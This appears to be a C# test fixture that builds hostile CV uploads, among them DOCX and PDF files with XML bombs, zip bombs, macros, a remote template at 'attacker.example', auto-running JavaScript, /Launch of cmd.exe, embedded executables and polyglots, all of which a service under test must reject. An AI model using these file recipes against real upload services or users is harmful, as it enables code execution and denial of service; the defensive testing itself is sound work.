using System.Globalization;
using System.IO.Compression;
using System.Text;
using Ear.Api.Tests.Infrastructure;

namespace Ear.Api.Tests.CvDocuments;

/// <summary>One attacker's file, what the service must answer, and a word its problem detail must contain.</summary>
public sealed record HostileFile(string Name, string FileName, Func<byte[]> Make, int Status, string DetailMentions)
{
    public override string ToString() => Name;
}

/// <summary>
/// The files that broke or stalled the CV upload, made in code: each is small to describe and, where
/// it matters, large or deep to read.
/// </summary>
internal static class HostileFiles
{
    private const string Word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

    public static IEnumerable<HostileFile> All() =>
    [
        new("a DOCX nesting 90,000 paragraphs", "deep.docx", () => DocxWithBody(Repeat("<w:p>", 90_000) + Repeat("</w:p>", 90_000)), 422, "nests deeper"),
        new("a DOCX of 1,100,000 paragraphs", "wide.docx", ManyParagraphsDocx, 422, "elements"),
        new("a DOCX whose XML declares entities (billion laughs)", "laughs.docx", BillionLaughsDocx, 422, "DTD"),
        new("a DOCX zip bomb", "bomb.docx", Documents.ZipBomb, 422, "expands"),
        new("a DOCX with a macro project", "macro.docx", () => DocxWithPart("word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0]), 422, "vbaProject"),
        new("a DOCX with an embedded object", "ole.docx", () => DocxWithPart("word/embeddings/oleObject1.bin", [1, 2, 3]), 422, "embeddings"),
        new("a DOCX declaring a macro-enabled main part", "macro-type.docx", MacroEnabledContentTypeDocx, 422, "macroEnabled"),
        new("a DOCX with a remote template", "template.docx", RemoteTemplateDocx, 422, "attachedTemplate"),
        new("a DOCX that is also a PDF", "polyglot.docx", () => DocxWithPart("word/media/image1.bin", Documents.Pdf("Hidden"), CompressionLevel.NoCompression), 422, "PDF"),
        new("a 9 MB PDF whose startxref is far from the end", "far.pdf", PdfWithStartxrefFarFromTheEnd, 422, "startxref"),
        new("a 9 MB PDF whose startxref points at junk", "junk.pdf", PdfWithStartxrefPointingAtJunk, 422, "startxref"),
        new("a 9 MB PDF whose cross-reference table is broken", "broken.pdf", PdfWithABrokenCrossReferenceTable, 422, "PDF"),
        new("a PDF that is also a zip", "polyglot.pdf", PdfZipPolyglot, 422, "zip"),
        new("a PDF that runs JavaScript when opened", "script.pdf",
            () => RawPdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"), 422, "/JavaScript"),
        new("a PDF that hides /JavaScript behind a #61 escape", "escaped.pdf",
            () => RawPdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>"), 422, "/JavaScript"),
        new("a PDF that launches a program", "launch.pdf",
            () => RawPdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"), 422, "/Launch"),
        new("a PDF with an attached file", "attachment.pdf",
            () => RawPdf("<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>",
                "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"), 422, "/EmbeddedFile"),
        new("a PDF with JavaScript inside an object stream", "objstm.pdf", PdfWithJavaScriptInAnObjectStream, 422, "active content"),
    ];

    private static string Repeat(string text, int times) => new StringBuilder(text.Length * times).Insert(0, text, times).ToString();

    private static byte[] DocxWithBody(string body) =>
        Zip(("[Content_Types].xml", ContentTypes()), ("word/document.xml", $"<w:document xmlns:w=\"{Word}\"><w:body>{body}</w:body></w:document>"));

    /// <summary>Paragraphs numbered so that the part does not compress past the bomb ratio, which would refuse it first.</summary>
    private static byte[] ManyParagraphsDocx()
    {
        var body = new StringBuilder();
        for (var i = 0; i < 1_100_000; i++)
        {
            body.Append(CultureInfo.InvariantCulture, $"<w:p w:rsidR=\"{i * 2654435761L % 4294967296L:X8}\"/>");
        }

        return DocxWithBody(body.ToString());
    }

    private static byte[] BillionLaughsDocx()
    {
        var entities = new StringBuilder("<!DOCTYPE w:document [<!ENTITY a0 \"lol\">");
        for (var i = 1; i < 10; i++)
        {
            entities.Append(CultureInfo.InvariantCulture, $"<!ENTITY a{i} \"{Repeat($"&a{i - 1};", 10)}\">");
        }

        entities.Append("]>");
        return Zip(("[Content_Types].xml", ContentTypes()),
            ("word/document.xml", $"<?xml version=\"1.0\"?>{entities}<w:document xmlns:w=\"{Word}\"><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"));
    }

    private static byte[] MacroEnabledContentTypeDocx() =>
        Zip(("[Content_Types].xml", ContentTypes("application/vnd.ms-word.document.macroEnabled.main+xml")),
            ("word/document.xml", $"<w:document xmlns:w=\"{Word}\"><w:body><w:p><w:r><w:t>Macro</w:t></w:r></w:p></w:body></w:document>"));

    private static byte[] RemoteTemplateDocx() => DocxWithPart("word/_rels/settings.xml.rels", Encoding.UTF8.GetBytes(
        "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
        + "Target=\"http://attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>"));

    /// <summary>A real DOCX with one more part in it.</summary>
    private static byte[] DocxWithPart(string name, byte[] content, CompressionLevel level = CompressionLevel.Optimal)
    {
        using var stream = new MemoryStream();
        stream.Write(Documents.Docx("Curriculum vitae"));
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var part = zip.CreateEntry(name, level).Open();
            part.Write(content);
        }

        return stream.ToArray();
    }

    private static string ContentTypes(string main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml") =>
        "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        + $"<Override PartName=\"/word/document.xml\" ContentType=\"{main}\"/></Types>";

    private static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name, CompressionLevel.SmallestSize).Open());
                writer.Write(content);
            }
        }

        return stream.ToArray();
    }

    /// <summary>The attacker's file: objects all the way, and the only startxref 9 MB before the end.</summary>
    private static byte[] PdfWithStartxrefFarFromTheEnd()
    {
        var pdf = new StringBuilder(Encoding.Latin1.GetString(Documents.Pdf("Far")));
        for (var i = 0; pdf.Length < 9 * 1024 * 1024; i++)
        {
            pdf.Append(CultureInfo.InvariantCulture, $"{i + 10} 0 obj\n<< /Filler {i} >>\nendobj\n");
        }

        return Encoding.Latin1.GetBytes(pdf.Append("%%EOF\n").ToString());
    }

    private static byte[] PdfWithStartxrefPointingAtJunk()
    {
        var far = PdfWithStartxrefFarFromTheEnd();
        return [.. far[..^6], .. Encoding.Latin1.GetBytes("startxref\n4000000\n%%EOF\n")];
    }

    /// <summary>Passes the cheap check (startxref points at "xref") but the table is junk, so PdfPig would search the whole file.</summary>
    private static byte[] PdfWithABrokenCrossReferenceTable()
    {
        var far = PdfWithStartxrefFarFromTheEnd()[..^6];
        var xref = far.Length;
        return [.. far, .. Encoding.Latin1.GetBytes($"xref\n0 3 7 9 x y z\ntrailer\n<< /Size 3 /Root 99 0 R >>\nstartxref\n{xref}\n%%EOF\n")];
    }

    /// <summary>A valid PDF with a valid zip appended: PDF readers find %%EOF in the last kilobyte, zip readers the directory.</summary>
    private static byte[] PdfZipPolyglot()
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var part = zip.CreateEntry("run.sh", CompressionLevel.NoCompression).Open();
            part.Write("echo pwned\n"u8);
        }

        return [.. Documents.Pdf("Looks like a CV"), .. stream.ToArray()];
    }

    /// <summary>A PDF 1.5 whose catalog sits in an object stream (uncompressed, so only a reader of objects can see the script).</summary>
    private static byte[] PdfWithJavaScriptInAnObjectStream()
    {
        const string catalog = "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>";
        var header = "1 0 ";
        var objectStream = $"<< /Type /ObjStm /N 1 /First {header.Length} /Length {header.Length + catalog.Length} >>\nstream\n{header}{catalog}\nendstream";
        var body = new StringBuilder("%PDF-1.5\n");
        var offsets = new List<int>();
        void Add(string content)
        {
            offsets.Add(body.Length);
            body.Append(CultureInfo.InvariantCulture, $"{offsets.Count + 1} 0 obj\n{content}\nendobj\n");
        }

        Add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
        Add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>");
        Add(objectStream);
        var xrefOffset = body.Length;
        // Type 1 entries (in the file) and one type 2 entry (object 1 is item 0 of object stream 4).
        byte[][] rows =
        [
            [0, 0, 0, 0, 0, 0xFF, 0xFF],
            [2, 0, 0, 0, 4, 0, 0],
            Row(1, offsets[0]), Row(1, offsets[1]), Row(1, offsets[2]), Row(1, xrefOffset),
        ];
        var data = rows.SelectMany(r => r).ToArray();
        body.Append(CultureInfo.InvariantCulture, $"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length {data.Length} >>\nstream\n");
        body.Append(Encoding.Latin1.GetString(data));
        body.Append(CultureInfo.InvariantCulture, $"\nendstream\nendobj\nstartxref\n{xrefOffset}\n%%EOF\n");
        return Encoding.Latin1.GetBytes(body.ToString());

        static byte[] Row(byte type, int offset) => [type, (byte)(offset >> 24), (byte)(offset >> 16), (byte)(offset >> 8), (byte)offset, 0, 0];
    }

    /// <summary>A minimal PDF 1.4 with the given catalog and extra objects (numbered from 4), its xref table exact.</summary>
    public static byte[] RawPdf(string catalog, params string[] extra)
    {
        string[] objects =
        [
            catalog,
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            .. extra,
        ];
        var body = new StringBuilder("%PDF-1.4\n");
        var offsets = new List<int>();
        for (var i = 0; i < objects.Length; i++)
        {
            offsets.Add(body.Length);
            body.Append(CultureInfo.InvariantCulture, $"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }

        var xref = body.Length;
        body.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets)
        {
            body.Append(CultureInfo.InvariantCulture, $"{offset:D10} 00000 n \n");
        }

        body.Append(CultureInfo.InvariantCulture, $"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return Encoding.Latin1.GetBytes(body.ToString());
    }
}
